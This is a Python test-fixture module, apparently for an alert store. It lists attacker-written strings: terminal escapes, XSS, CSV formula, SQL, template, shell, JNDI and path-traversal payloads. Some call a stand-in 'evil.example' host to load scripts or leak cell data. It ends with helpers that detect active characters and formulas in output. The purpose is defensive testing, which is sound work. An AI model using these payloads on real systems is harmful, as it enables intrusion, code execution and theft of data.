"""What an attacker writes into alerts, by what it is aimed at. Nothing here may act anywhere.

`HOSTILE` has every text under a name; the lists by aim are for tests of one kind of output. All can be stored, except those in
`UNSTORABLE` (NUL, lone surrogates), which a store refuses or replaces.
"""

from __future__ import annotations

import csv
import io
import re

TERMINAL = [
    "\x1b[2J\x1b[H",  # clears
    "\x1b]0;pwned\x07",  # sets the title
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a link whose text is another
    "\x1b]52;c;cm0gLXJmIC8=\x07",  # writes the clipboard
    "\x1b]1337;File=inline=1:AAAA\x07",
    '\x1bP$q"p\x1b\\',
    "\x1b[6n\x1b[c\x1b[21t",  # makes the terminal answer, as if typed
    "\x1b[?1049h\x1b[8m",
    "\x1b_Gi=1;AAAA\x1b\\",
    "\x1bc",
    "\x9b31m\x9d0;x\x9c\x90\x9f\x84\x85",  # the same in single characters
    "gone\x08\x08\x08\x08kept\rover\x7f",
    "bell\x07 form\x0c vertical\x0b shift\x0e\x0f",
    "\x1b",
    "[bold red]markup[/] [link=http://evil.example]x[/link] [/]",
    ":warning: :skull:",
]
UNSEEN = [
    "\u202egnp.exe\u202c",  # shown backwards
    "\u2066\u2067\u2068\u2069\u061c\u200e\u200f",
    "if access == \u202a\u202b\u202dadmin",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "soft\u00adhyphen \u180e \u034f",
    "\U000e0041\U000e0042\U000e007f tags",
    "smuggled\U000e0100\U000e01ef\ufe00\ufe0f",  # variation selectors carry bytes that nobody sees
    "\u180b\u180c\u180d\u180f mongolian",
    "\u3164\uffa0\u115f\u1160 letters that are blank",
    "\u2800\U0001d159\U00016fe4 signs that are blank",
    "\ufff9ann\ufffaot\ufffbated \ufffc",
    "\U0001d173\U0001bca0 shaped",
    "\ue000\uf8ff\U0010fffd private",
    "\ufdd0\uffff\U0010ffff no characters",
    "one\u2028two\u2029three",
]
LINES = [
    "title\nalertstore: verification passed",  # a log line of the attacker's own
    "title\r\n2026-01-01T00:00:00Z INFO all is well",
    "a\x1c\x1d\x1e\x1fb",
    "x\x0b\x0c\x85y",
    'title\n"},{"title":"forged"}',
    "a\n\n\n",
    "\ttab\ttab\t",
]
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=WEBSERVICE(A1)",
    '=1+1";=1+1',
    " =1+1",
    "\u00a0\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x0b+1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "a;=1+1;b",  # where the list separator is a semicolon
    'a;"=1+1"',
    "a; \t@SUM(A1)",
    "a|=1+1|b",
    'a","=1+1","b',
    'a",=1+1,"b',
    "'=1+1",
    '"=1+1"',
    "-",
    "=",
    "-2+3",
    "+1e5x",
    'DDE("cmd";"/C calc";"x")',
]
XSS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code></td></table><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>",
    "<script\x0dtype='text/javascript'>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=`alert(1)",
    "x onerror=alert(1) y=",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src/onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg/onload=alert(1)//",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    '<a href="\x01javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://ok.example",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<div style=width:expression(alert(1))>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table background=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0131mg src=x onerror=alert(1)>",
    "<plaintext>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<?php system('id') ?>",
]
TEMPLATES = [
    "{{7*7}} {%import os%} {{config}}",
    "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    "{0.__class__} {row[title]!r:>99999999} {",
    "%s%s%n%x %(title)s %",
    "$(reboot) `reboot` ; reboot | reboot && reboot",
    "$HOME ~ *",
    "\\x1b[31m \\u202e \\n",
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "[x]: http://evil.example",
    "<http://evil.example>",
    "# heading\n\n---\n",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b \\| c",
    "```\ncode\n```\n~~~",
    "`` ` `` *em* **strong** ~~gone~~ __x__",
    "1. one\n- [ ] two\n> quote",
    "a\\\nb  \nc",
    "@everyone #1 GH-1 :+1:",
    "[^1] [[wiki]] $$x$$",
]
SQL = [
    "'; DROP TABLE alert; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM event; --",
    "x' UNION SELECT value FROM setting --",
    "a.occurred_at; DROP TABLE event",
    "/* */ OR 1=1 /*",
    "]; [x",
    "`a`",
    "?1 :name @p $p ?",
    "x'00'",
    "sqlite_master",
    "\\'; --",
]
SEARCH = [
    "title : x",
    "{title description} : x",
    "NEAR(a b, 2)",
    "a AND NOT b OR (c",
    '"unclosed',
    'a " b',
    '""',
    "^start end*",
    "-a +b",
    "*",
    "(((((((((",
    "a NOT",
    "rank : 1",
    "%",
    "_",
    "%_%_%_%_%",
    "[a-z]*?",
    "\\%",
]
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\CON",
    "CON.txt",
    "NUL",
    "file:///etc/passwd",
    "file:x?mode=memory&cache=shared",
    ":memory:",
    "-rf",
    "--store=/tmp/x",
    ".",
    "~root/.ssh/authorized_keys",
    "a/b/../../c",
    "n" * 300,
    "\\\\evil.example\\share",
]
OTHER = [
    "x" * 15_000,
    "\u0301" * 400 + "zalgo",
    "e\u0301\u0323 \u00e9 \u1e69 \u0073\u0323\u0307",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\u26a0\ufe0f",
    "\u0130\u0131\u00df\u03c2\u017f\u1e9e",
    "\u5b57" * 300,
    "null",
    "true",
    "NaN",
    "-0",
    "1e400",
    "0x41",
    "9" * 400,
    "__proto__",
    "constructor",
    '{"title":"x"}',
    "\\",
    '"',
    "'",
    "\\u0000",
]
UNSTORABLE = [
    "nul\0inside",
    "\0",
    "\ud800",
    "a\udfffb",
    "\udcff\udc80",
]

AIMS = {
    "terminal": TERMINAL,
    "unseen": UNSEEN,
    "lines": LINES,
    "formula": FORMULAS,
    "xss": XSS,
    "template": TEMPLATES,
    "markdown": MARKDOWN,
    "sql": SQL,
    "search": SEARCH,
    "path": PATHS,
    "other": OTHER,
}
HOSTILE = {f"{aim} {number}": text for aim, texts in AIMS.items() for number, text in enumerate(texts, 1)}

# Written out, so that the code under test has no part in saying what is active: controls, format characters, blanks that pass
# for letters, variation selectors, lone surrogates, what is private or no character. Line feeds are looked at by each test.
ACTIVE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164"
    "\ud800-\uf8ff\ufdd0-\ufdef\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffc\ufffe\uffff\U00016fe4\U0001bca0-\U0001bca3\U0001d159"
    "\U0001d173-\U0001d17a\U000e0000-\U000e0fff\U000f0000-\U0010ffff]"
)
_COLOUR = re.compile("\x1b\\[[0-9;]*m")
_FORMULA = re.compile("\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


def active(output, *, coloured=False):
    """What acts in a command's output: nothing may. The colours of a table on a terminal are our own."""
    return ACTIVE.findall(_COLOUR.sub("", output).replace("\r\n", "\n") if coloured else output)


def formulas(text, delimiter=","):
    """The cells of a CSV that a spreadsheet would evaluate, if it split the lines at `delimiter`. None may be."""
    csv.field_size_limit(1 << 25)
    cells = (cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row)
    return [cell for cell in cells if _FORMULA.match(cell) and not _NUMBER.fullmatch(cell)]
